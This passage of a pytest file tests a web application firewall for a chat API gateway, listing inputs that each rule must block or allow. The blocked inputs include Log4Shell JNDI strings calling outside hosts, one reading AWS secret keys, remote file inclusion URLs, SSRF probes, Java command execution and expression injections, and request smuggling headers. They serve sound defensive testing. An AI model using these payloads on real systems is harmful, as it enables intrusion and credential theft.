    "rfi-120": (
        [("q", "https://x.example/shell.txt?"), ("q", "ftp?")],
        [("q", "https://x.example/a?b=1"), ("q", "why?")],
    ),
    "rfi-130": (
        [
            ("q", "gopher://127.0.0.1:6379/_INFO"),
            ("json", "jar:http://x.example/a.zip!/b"),
            ("q", "http://a.example%2f@b.example/"),
        ],
        [("q", "https://example.com/path"), ("json", "file name")],
    ),
    "rfi-140": ([("path", "/v1/https://x.example/a")], [("path", "/v1/chat/completions")]),
    "rfi-150": ([("q", "https://x.example/shell.txt")], [("json", "https://x.example/shell.txt")]),
    "rfi-160": (
        [("q", "http://gw:6379/"), ("q", "https://gw.evil.example/a"), ("q", "https://gw-cdn.example/")],
        [("q", "https://gw/a"), ("q", "https://api.gw/a"), ("q", "https://gw:443/a"), ("q", "https://example.com/")],
    ),
    # session fixation
    "session-100": (
        [
            ("q", "document.cookie='sid=1'"),
            ("q", '<meta http-equiv="Set-Cookie" content="a=b">'),
            ("q", "x.cookie;expires="),
        ],
        [("q", "cookie policy; expires soon"), ("q", "a.cookie == b")],
    ),
    "session-110": (
        [
            ("qname", "PHPSESSID"),
            ("qname", "jsessionid"),
            ("qname", "connect.sid"),
            ("qname", "next-auth.session-token"),
        ],
        [
            ("qname", "session_token"),
            ("qname", "assessment"),
            ("json", "sessionid"),
            ("raw", "GET /login?sessionid=abc\nReferer: https://gw/login"),
        ],
    ),
    # protocol attacks in values
    "proto-attack-130": (
        [
            ("rawq", "x=test%0Dnext=more"),
            ("rawq", "a=1&%0d%0arest"),
            ("rawq", "x=test%0A%0Dnext=more"),
            ("q", "x\r\nX-Debug: 1"),
        ],
        [
            ("rawq", "x=line%0AMore%20text"),
            ("rawq", "x=a%20b"),
            ("q", "Is this loop ok?\n```python\ni = 0\nwhile i < 10:\n    i += 1\n```"),
            ("q", "Our compose file:\nservices:\n  db:\n    image: postgres:16"),
        ],
    ),
    "proto-attack-140": (
        [("q", "admin)(|(uid=*"), ("q", "*)!(sn=*"), ("cookie", "v)(uid=*")],
        [("q", "(&(objectClass=user)(cn=a))"), ("q", "f(x)(y)"), ("q", "see (a)(b=c)")],
    ),
    "proto-attack-150": ([("rawq", "unix:AAAA|http://x.example/")], [("q", "unix: a | b")]),
    "proto-attack-160": ([("h:cookie", "$Version=1; a=b")], [("h:cookie", "Version=1; a=b")]),
    "proto-attack-170": (
        [
            ("ctype", 'application/x-www-form-urlencoded;boundary="application/json"'),
            ("ctype", "text/plain; x=text/xml"),
        ],
        [
            ("ctype", 'multipart/related; type="application/xop+xml"; boundary=x'),
            ("ctype", "application/json; charset=utf-8"),
        ],
    ),
    # protocol enforcement
    "enforce-100": (
        [("h:transfer-encoding", "gzip, chunked"), ("h:content-length", "12, 12"), ("h:content-length", "-1")],
        [("h:transfer-encoding", "chunked"), ("h:content-length", "12")],
    ),
    "enforce-105": (
        [("raw", "POST /v1/chat/completions\nContent-Length: 7\nTransfer-Encoding: chunked")],
        [("raw", "POST /v1/chat/completions\nContent-Length: 7")],
    ),
    "enforce-110": (
        [("raw", "GET /v1/models\nContent-Length: 7"), ("raw", "HEAD /v1/models\nTransfer-Encoding: chunked")],
        [("raw", "GET /v1/models\nContent-Length: 0"), ("raw", "POST /v1/models\nContent-Length: 7")],
    ),
    "enforce-120": (
        [("h:range", "bytes=0-,5-0,5-1,5-2,5-3,5-4"), ("h:request-range", "bytes=-,")],
        [("h:range", "bytes=0-1023"), ("h:range", "bytes=0-1,5-9")],
    ),
    "enforce-130": (
        [("h:proxy", "http://x.example"), ("h:content-encoding", "gzip"), ("h:lock-token", "<opaquelocktoken:1>")],
        [("h:x-proxy-id", "1"), ("h:accept-encoding", "gzip"), ("h:content-range", "bytes 0-1/2")],
    ),
    "enforce-131": (
        [("h:request-range", "bytes=0-1"), ("h:translate", "f"), ("h:accept-charset", "utf-7")],
        [("h:range", "bytes=0-1"), ("h:accept-language", "en")],
    ),
    "enforce-140": (
        [("rawq", "_method=DELETE"), ("h:x-http-method-override", "PUT"), ("raw", "GET /v1/models?a=1&_method=POST")],
        [("rawq", "_method=X"), ("rawq", "x_method=delete"), ("rawq", "_method=post")],
    ),
    "enforce-150": (
        [
            ("ctype", "my-new-content-type"),
            ("ctype", "text/xml; blah"),
            ("ctype", "%{(#nike='multipart/form-data')"),
            ("ctype", "multipart/form-data; boundary=  test_data_123456"),
        ],
        [
            ("ctype", "application/json; charset=utf-8"),
            ("ctype", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
            ("ctype", "application/*+json"),
            ("ctype", "multipart/form-data; boundary = x"),
            ("ctype", 'multipart/form-data; boundary="a  b"'),
        ],
    ),
    "enforce-160": (
        [("ctype", "application/json; charset=utf-7"), ("ctype", "application/json; charset=utf-8; charset=utf-7")],
        [("ctype", "application/json; charset=UTF-8"), ("ctype", "text/plain; charset='iso-8859-15'")],
    ),
    "enforce-161": (
        [("h:accept", "text/html;q=0.9;charset=CP1026,*/*;q=0.8"), ("h:accept", "application/json; charset=utf-16")],
        [
            ("h:accept", "application/json"),
            ("h:accept", "text/html;q=0.9;charset=utf-8, *;q=0.1"),
            ("h:accept", 'text/html;charset="windows-1252";,*/*;q=0.8'),
        ],
    ),
    "enforce-170": ([("h:connection", "keep-alive, close")], [("h:connection", "keep-alive")]),
    "enforce-250": (
        [("h:accept-encoding", ",".join(["A" * 30] * 4))],
        [("h:accept-encoding", "gzip, deflate, br, zstd"), ("h:accept-encoding", "gzip;q=1.0, identity; q=0.5, *;q=0")],
    ),
    "enforce-180": (
        [
            ("multipart", 'name="fi;le"'),
            ("multipart", 'name="a"; filename="x.php\\"'),
            ("multipart", 'name="&amp;f;x"'),
        ],
        [("multipart", 'name="file"; filename="report.pdf"'), ("multipart", 'name="caf&eacute;&amp;bar"')],
    ),
    "enforce-190": (
        [("rawbody", 'POST /v1/chat/completions\n\n{"model": "m"}')],
        [("rawbody", "POST /v1/chat/completions\nContent-Type: application/json\n\n{}"), ("raw", "GET /v1/models")],
    ),
    "enforce-200": ([("h:host", ""), ("h:host", "  ")], [("h:host", "gw.example.com:8443")]),
    "enforce-210": (
        [("rawq", "x=%uff0fetc"), ("path", "/v1/%uFF0E%uFF0E/x")],
        [("rawq", "x=%25uff0f"), ("q", "uff0f")],
    ),
    "enforce-220": (
        [("rawq", "x=%1G"), ("rawq", "x=%7%6F"), ("rawq", "x=abc%"), ("path", "/v1/a%zz")],
        [("rawq", "x=%41%42"), ("rawq", "x=50%25"), ("q", "50% off")],
    ),
    "enforce-230": (
        [("path", "/index.php~"), ("path", "/config.php~/x")],
        [("path", "/v1/files/a~b"), ("path", "/~user/x")],
    ),
    "enforce-240": (
        [("rawbody", "POST /x?a=%5Cu0061lert\nContent-Type: application/x-www-form-urlencoded\n\nb=1")],
        [("json", "\\u0061 is an escape"), ("q", "u0061")],
    ),
    # java
    "java-100": (
        [
            ("h:user-agent", "${jndi:ldap://203.0.113.9:1389/a}"),
            ("h:x-api-version", "${${lower:j}${::-n}di:rmi://x.example/o}"),
            ("q", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"),
            ("json", "${env:AWS_SECRET_ACCESS_KEY}"),
            ("q", "$\\u007Bjndi:dns://x.example}"),
            ("cookie", "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0"),  # base64
        ],
        [("prompt", "What was Log4Shell? Attackers sent ${jndi:ldap://...} strings."), ("json", "price: $ {amount}")],
    ),
    "java-110": (
        [("q", "java.lang.Runtime.getRuntime().exec('id')"), ("h:x-custom", 'new ProcessBuilder("id").start()')],
        [("json", "Java runtime environment 21"), ("q", "process builder pattern")],
    ),
    "java-120": (
        [
            ("q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
            ("json", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
            ("h:content-disposition", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}"),
        ],
        [("json", "#{name} and %{count} are placeholders"), ("q", "100%{")],
    ),
    "java-130": (
        [("qname", "class.module.classLoader.resources.context.parent.pipeline.first.pattern")],
        [("qname", "class.name"), ("q", "my classloader question")],
    ),
    "java-140": (
        [("q", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), ("cookie", "aced0005737200")],
        [("q", "ace of spades"), ("json", "r00ab")],
    ),
    "java-150": (
        [
            ("q", "org.apache.commons.collections.functors.InvokerTransformer"),
            ("json", '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'),
        ],
        [("json", "the transformer model ran at runtime"), ("q", "lazy map")],
    ),
    "java-160": ([("h:x-filename", "shell.jsp"), ("h:x-filename", "a.jspx..")], [("h:x-filename", "notes.json")]),
    "java-170": (
        [
            ("q", "java.io.FileOutputStream"),
            ("json", "org.springframework.context.support.ClassPathXmlApplicationContext"),
        ],
        [("json", "javascript.info"), ("q", "java io tutorial")],
    ),
    "java-180": (
        [("q", "xcnVudGltZQ"), ("cookie", "aW52b2tlcnRyYW5zZm9ybWVy")],
        [("q", "runtime"), ("q", "aGVsbG8gd29ybGQ")],
    ),
    "java-190": (
        [("q", "java.Runtime"), ("q", "ProcessBuilder with base64data")],
        [("q", "java coffee"), ("q", "runtime: 20 min")],
    ),
}


@pytest.fixture(scope="module")
def waf():
    packs = builtin_packs()[0]
    return compile_waf(WafSpec(paranoia_level=4, packs=sorted(packs)), pack_rules({}), "test")


def test_every_builtin_rule_has_cases():
    ids = {rule.id for pack in builtin_packs()[0].values() for rule in pack.rules}
    assert ids - set(CASES) == set(), "add positive and negative cases for these rules"
    assert set(CASES) - ids == set(), "cases for rules that no longer exist"


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_on_its_positives_and_not_on_its_negatives(waf, rule_id):
    positives, negatives = CASES[rule_id]
    for where, text in positives:
        fired = waf.evaluate(request(where, text), all_matches=True).rule_ids
        assert rule_id in fired, f"{rule_id} missed {where}={text[:80]!r} (fired: {fired})"
    for where, text in negatives:
        fired = waf.evaluate(request(where, text), all_matches=True).rule_ids
        assert rule_id not in fired, f"{rule_id} fired on {where}={text[:80]!r}"


# What real clients send: SDK and browser User-Agents, tool definitions, structured-output schemas, metadata.
CLIENT_AGENTS = [
    "OpenAI/Python 1.40.0",
    "AsyncOpenAI/Python 1.40.0",
    "openai-node/4.52.0",
    "curl/8.4.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
    "python-requests/2.31.0",
    "aiohttp/3.9 Python/3.11",
    "Wget/1.21.4",
    "langchain/0.2 python/3.11",
]
CHAT_FIELDS = [
    {
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "run_python",
                    "description": "Run Python code in a sandbox and return stdout (python 3.11)",
                    "parameters": {"type": "object", "properties": {"code": {"type": "string"}}, "required": ["code"]},
                },
            }
        ]
    },
    {
        "response_format": {
            "type": "json_schema",
            "json_schema": {
                "name": "answer",
                "schema": {
                    "type": "object",
                    "properties": {"answer": {"type": "string"}, "confidence": {"type": "number"}},
                },
            },
        }
    },
    {"metadata": {"user_id": "u-123", "source": "web app (beta)", "lang": "python 3.12"}, "stop": ["\n\n", "###"]},
    {
        "messages": [
            {"role": "user", "content": "hi"},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {
                            "name": "get_weather",
                            "arguments": '{"location": "Paris, FR", "unit": "celsius"}',
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": '{"temp": 21}'},
        ]
    },
]


@pytest.fixture(scope="module")
def waf_pl2():
    return compile_waf(WafSpec(paranoia_level=2, packs=sorted(builtin_packs()[0])), pack_rules({}), "test")


@pytest.mark.parametrize("agent", CLIENT_AGENTS)
@pytest.mark.parametrize("fields", CHAT_FIELDS, ids=["tools", "response_format", "metadata", "tool_calls"])
def test_typical_chat_requests_pass_every_pack_at_pl2(waf_pl2, agent, fields):
    payload = {"model": "m", "messages": [{"role": "user", "content": "hi"}], **fields}
    view = RequestView(
        method="POST",
        path=CHAT,
        headers=[*BASE_HEADERS[:1], ("user-agent", agent), *BASE_HEADERS[2:]],
        body=json.dumps(payload).encode(),
        payload=payload,
        route="chat",
        model="m",
    )
    verdict = waf_pl2.evaluate(view, all_matches=True)
    assert not verdict.blocked, [(m.rule.id, m.hit.matched) for m in verdict.matches]


def test_tautology_cost_is_bounded_on_a_value_packed_with_comparisons():
    """Each REGEXP/LIKE comparison compiles its pattern: a 1 MB value of distinct false ones stays cheap."""
    packed = "".join(f"'a' regexp 'b{i}' " for i in range(60_000))
    started = time.perf_counter()
    assert tautology.find(packed) is None
    assert time.perf_counter() - started < 0.5
    assert tautology.find("'a' regexp 'b' " * 3 + "' or 'x'='x") is not None  # a few false ones hide nothing


def test_tautology_compiles_request_patterns_quietly(capfd):
    """A REGEXP operand is the request's: a broken one is a false comparison, not a log line per request."""
    assert tautology.find("'a' regexp '[[[' or 'b' regexp '(x'") is None
    assert "Error parsing" not in capfd.readouterr().err


def test_quote_split_words_is_linear_on_a_long_word_with_a_stray_quote():
    """rce-151 reads arguments through this transform: a 1 MB word ending in a quote must not backtrack."""
    started = time.perf_counter()
    assert quote_split_words("a" * 1_000_000 + "' x") == ""
    assert time.perf_counter() - started < 0.5
    assert quote_split_words("x; 'wh'oami and O'Keefe") == "whoami"


def test_remove_markdown_code_marks_is_linear_on_many_unclosed_spans_and_fences():
    """rce-100 reads every argument through this transform: a megabyte of backticks that open spans and fences
    that never close must cost one pass, not one per backtick."""
    started = time.perf_counter()
    remove_markdown_code_marks("a `b c " * 150_000 + "\n```python\n" * 20_000)
    assert time.perf_counter() - started < 0.5
